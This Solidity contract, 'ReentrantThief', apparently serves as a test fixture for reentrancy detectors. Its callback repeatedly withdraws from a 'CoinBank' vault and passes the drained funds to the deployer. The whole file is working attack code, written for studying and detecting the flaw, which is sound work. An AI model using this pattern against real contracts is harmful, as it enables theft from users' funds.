// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {CoinBank} from "./CoinBank.sol";

/// @title ReentrantThief
/// @notice Empties a CoinBank on a test chain, for detectors to be tried on.
contract ReentrantThief {
    /// @notice Raised when anyone but the deployer calls.
    error NotAllowed(address caller);

    address payable private immutable OWNER = payable(msg.sender);
    CoinBank private immutable VAULT;

    constructor(CoinBank vault) {
        VAULT = vault;
    }

    /// @dev Each payment asks for the next, as long as the vault has enough for one more.
    receive() external payable {
        if (msg.sender == address(VAULT) && address(VAULT).balance >= VAULT.balanceOf(address(this))) VAULT.withdraw();
    }

    /// @notice Deposits what comes with the call, takes it out as often as the vault can pay it, and hands it over.
    function attack() external payable {
        if (msg.sender != OWNER) revert NotAllowed(msg.sender);

        VAULT.deposit{value: msg.value}();
        VAULT.withdraw();
        OWNER.transfer(address(this).balance);
    }
}
